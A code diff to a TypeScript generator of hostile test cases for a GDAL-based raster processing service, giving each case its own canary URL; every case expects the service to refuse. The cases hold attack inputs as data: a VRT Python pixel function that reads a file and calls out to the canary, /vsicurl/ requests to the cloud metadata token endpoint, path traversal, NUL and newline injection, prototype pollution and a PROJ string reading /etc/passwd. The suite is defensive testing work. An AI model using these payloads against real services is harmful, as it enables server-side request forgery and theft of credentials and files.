@@ -230,6 +230,8 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
   mkdirSync(filesDir);
   const folder = options.blobFolder ?? 'hostile';
   const canary = options.canaryUrl.replace(/\/$/, '');
+  /** A canary URL under the case's own path, so a request it causes names the case. */
+  const canaryUrl = (caseId: string, path: string): string => `${canary}/${caseId}/${path}`;
   const notes: string[] = [];
   const cases: HostileCase[] = [];
   const python = findPythonWithH5py();
@@ -379,7 +381,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
           `  <VRTRasterBand dataType="Float32" band="1" subClass="VRTDerivedRasterBand">\n` +
             `    <PixelFunctionType>exfiltrate</PixelFunctionType>\n    <PixelFunctionLanguage>Python</PixelFunctionLanguage>\n` +
             `    <PixelFunctionCode><![CDATA[\nimport urllib.request\ndef exfiltrate(in_ar, out_ar, *args, **kwargs):\n` +
-            `    open(${JSON.stringify(sentinelTif)}, 'rb').read()\n    urllib.request.urlopen(${JSON.stringify(`${canary}/python-pixel-function`)})\n` +
+            `    open(${JSON.stringify(sentinelTif)}, 'rb').read()\n    urllib.request.urlopen(${JSON.stringify(canaryUrl('vrt-derived-python', 'pixel-function'))})\n` +
             `    out_ar[:] = ${sentinelPixelValue}\n]]></PixelFunctionCode>\n` +
             `    <SimpleSource><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif)}</SourceFilename><SourceBand>1</SourceBand></SimpleSource>\n  </VRTRasterBand>`,
         ),
@@ -393,21 +395,21 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     id: 'vrt-http-source',
     category: 'VRT, network',
     attack: 'SimpleSource with a plain http:// URL (the canary): the 10 outbound requests of the issue',
-    files: [text('http.vrt', vrtDocument(simpleSourceBand(`${canary}/vrt-http-source.tif`)))],
+    files: [text('http.vrt', vrtDocument(simpleSourceBand(canaryUrl('vrt-http-source', 'scene.tif'))))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
     id: 'vrt-vsicurl-canary',
     category: 'VRT, network',
     attack: 'SimpleSource on /vsicurl/ to the canary',
-    files: [text('vsicurl.vrt', vrtDocument(simpleSourceBand(`/vsicurl/${canary}/vrt-vsicurl.tif`)))],
+    files: [text('vsicurl.vrt', vrtDocument(simpleSourceBand(`/vsicurl/${canaryUrl('vrt-vsicurl-canary', 'scene.tif')}`)))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
     id: 'vrt-vsicurl-metadata-endpoint',
     category: 'VRT, network',
     attack: 'SimpleSource on /vsicurl/ to the instance metadata endpoint (169.254.169.254; reaches the canary through GDAL_HTTP_PROXY)',
-    files: [text('imds.vrt', vrtDocument(simpleSourceBand('/vsicurl/http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01')))],
+    files: [text('imds.vrt', vrtDocument(simpleSourceBand('/vsicurl/http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vrt-vsicurl-metadata-endpoint/')))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
@@ -433,8 +435,8 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
   });
 
   // --- GDAL XML service descriptions ---------------------------------------------------------
-  const wms =
-    `<GDAL_WMS>\n  <Service name="WMS"><Version>1.1.1</Version><ServerUrl>${xmlEscape(`${canary}/wms?`)}</ServerUrl>` +
+  const wms = (id: string): string =>
+    `<GDAL_WMS>\n  <Service name="WMS"><Version>1.1.1</Version><ServerUrl>${xmlEscape(`${canaryUrl(id, 'wms')}?`)}</ServerUrl>` +
     `<SRS>EPSG:4326</SRS><ImageFormat>image/png</ImageFormat><Layers>hostile</Layers></Service>\n` +
     `  <DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX><LowerRightY>-90</LowerRightY>` +
     `<SizeX>512</SizeX><SizeY>256</SizeY></DataWindow>\n  <BandsCount>3</BandsCount><BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY>\n</GDAL_WMS>\n`;
@@ -443,14 +445,14 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     category: 'GDAL XML service',
     attack: 'GDAL_WMS description whose server is the canary; dropped in uploads/ for the upload trigger',
     container: 'uploads',
-    files: [text('service.xml', wms)],
+    files: [text('service.xml', wms('wms-canary'))],
     expect: { outcome: 'job-failed', reason: /WMS/ },
   });
   fileCase({
     id: 'wms-disguised-as-tif',
     category: 'GDAL XML service',
     attack: 'the same GDAL_WMS description named tiles.tif',
-    files: [text('tiles.tif', wms)],
+    files: [text('tiles.tif', wms('wms-disguised-as-tif'))],
     expect: { outcome: 'job-failed', reason: /WMS/ },
   });
   fileCase({
@@ -460,7 +462,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     files: [
       text(
         'tms.xml',
-        `<GDAL_WMS>\n  <Service name="TMS"><ServerUrl>${xmlEscape(`${canary}/tms/\${z}/\${x}/\${y}.png`)}</ServerUrl></Service>\n` +
+        `<GDAL_WMS>\n  <Service name="TMS"><ServerUrl>${xmlEscape(`${canaryUrl('wms-tms-canary', 'tms')}/\${z}/\${x}/\${y}.png`)}</ServerUrl></Service>\n` +
           `  <DataWindow><UpperLeftX>-20037508.34</UpperLeftX><UpperLeftY>20037508.34</UpperLeftY><LowerRightX>20037508.34</LowerRightX>` +
           `<LowerRightY>-20037508.34</LowerRightY><TileLevel>2</TileLevel><TileCountX>1</TileCountX><TileCountY>1</TileCountY><YOrigin>top</YOrigin></DataWindow>\n` +
           `  <Projection>EPSG:3857</Projection><BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount>\n</GDAL_WMS>\n`,
@@ -472,7 +474,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     id: 'wmts-canary',
     category: 'GDAL XML service',
     attack: 'GDAL_WMTS description whose GetCapabilities URL is the canary',
-    files: [text('wmts.xml', `<GDAL_WMTS>\n  <GetCapabilitiesUrl>${xmlEscape(`${canary}/wmts?SERVICE=WMTS&REQUEST=GetCapabilities`)}</GetCapabilitiesUrl>\n  <Layer>hostile</Layer>\n</GDAL_WMTS>\n`)],
+    files: [text('wmts.xml', `<GDAL_WMTS>\n  <GetCapabilitiesUrl>${xmlEscape(`${canaryUrl('wmts-canary', 'wmts')}?SERVICE=WMTS&REQUEST=GetCapabilities`)}</GetCapabilitiesUrl>\n  <Layer>hostile</Layer>\n</GDAL_WMTS>\n`)],
     expect: { outcome: 'job-failed', reason: /WMTS/ },
   });
   // STAC orders the affine transform [xres, 0, xoff, 0, yres, yoff].
@@ -495,7 +497,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
               geometry: { type: 'Polygon', coordinates: [[[10, 49], [11, 49], [11, 50], [10, 50], [10, 49]]] },
               bbox: [10, 49, 11, 50],
               properties: { datetime: '2024-01-01T00:00:00Z', ...stacProjection },
-              assets: { data: { href: `${canary}/stacit/asset.tif`, type: 'image/tiff; application=geotiff', roles: ['data'], ...stacProjection } },
+              assets: { data: { href: canaryUrl('stacit-canary', 'asset.tif'), type: 'image/tiff; application=geotiff', roles: ['data'], ...stacProjection } },
               links: [],
             },
           ],
@@ -517,7 +519,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     id: 'vsi-string-as-tif',
     category: 'dataset string',
     attack: 'a .tif whose content is a /vsicurl/ dataset name to the canary',
-    files: [text('pointer.tif', `/vsicurl/${canary}/vsi-string.tif\n`)],
+    files: [text('pointer.tif', `/vsicurl/${canaryUrl('vsi-string-as-tif', 'scene.tif')}\n`)],
     expect: { outcome: 'job-failed', reason: /GeoTIFF/ },
   });
   const memNamed = local('mem-named.tif');
@@ -745,7 +747,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
   requestCase('source-dot-dot-inside', '`..` inside an allowed container', { source: `incoming/${folder}/../${folder}/sidecar-msk/masked.tif` }, sourceRefused());
   requestCase('source-dot', '`.` segment', { source: `incoming/./${folder}/sidecar-msk/masked.tif` }, sourceRefused());
   requestCase('source-empty-segment', 'empty segment a//b', { source: `incoming/${folder}//sidecar-msk/masked.tif` }, sourceRefused());
-  requestCase('source-vsi-prefix', 'a /vsicurl/ name behind an empty segment', { source: `incoming//vsicurl/${canary}/x.tif` }, sourceRefused());
+  requestCase('source-vsi-prefix', 'a /vsicurl/ name behind an empty segment', { source: `incoming//vsicurl/${canaryUrl('source-vsi-prefix', 'x.tif')}` }, sourceRefused());
   requestCase('source-leading-slash', 'leading /', { source: `/${existing}` }, sourceRefused());
   requestCase('source-nul', 'NUL (U+0000) in the blob name', { source: 'incoming/a\u0000.tif' }, sourceRefused());
   requestCase('source-newline', 'a newline (U+000A) in the blob name', { source: 'incoming/a\nb.tif' }, sourceRefused());
@@ -761,8 +763,8 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
   requestCase('body-null', 'a JSON body that is null', 'null', { outcome: 'http-400' });
   requestCase('body-not-json', 'a body that is not JSON', '{"source": "incoming/a.tif"', { outcome: 'http-400' });
   requestCase('body-huge', 'a 3 MB body', { source: `incoming/${'a/'.repeat(1_500_000)}x.tif` }, { outcome: 'http-400', statuses: [400, 413] });
-  requestCase('body-unknown-field', 'an unknown field naming a URL', { source: existing, sourceUrl: `${canary}/x.tif` }, { outcome: 'http-400' });
-  requestCase('body-unknown-option', 'an unknown option passing GDAL configuration', { source: existing, options: { gdalConfig: { GDAL_HTTP_PROXY: canary } } }, { outcome: 'http-400' });
+  requestCase('body-unknown-field', 'an unknown field naming a URL', { source: existing, sourceUrl: canaryUrl('body-unknown-field', 'x.tif') }, { outcome: 'http-400' });
+  requestCase('body-unknown-option', 'an unknown option passing GDAL configuration', { source: existing, options: { gdalConfig: { GDAL_HTTP_PROXY: canaryUrl('body-unknown-option', '') } } }, { outcome: 'http-400' });
   requestCase('body-proto-pollution', '__proto__ in the body', `{"source": ${JSON.stringify(existing)}, "__proto__": {"polluted": true}}`, { outcome: 'http-400' });
   requestCase('collection-traversal', 'a collection id with ../', { source: existing, collection: '../stac' }, { outcome: 'http-400', fields: ['collection'] });
   requestCase('target-crs-proj-string', 'a targetCrs that is a PROJ string with +init=/etc/passwd', { source: existing, options: { targetCrs: '+init=/etc/passwd:x' } }, { outcome: 'http-400', fields: ['options.targetCrs'] });
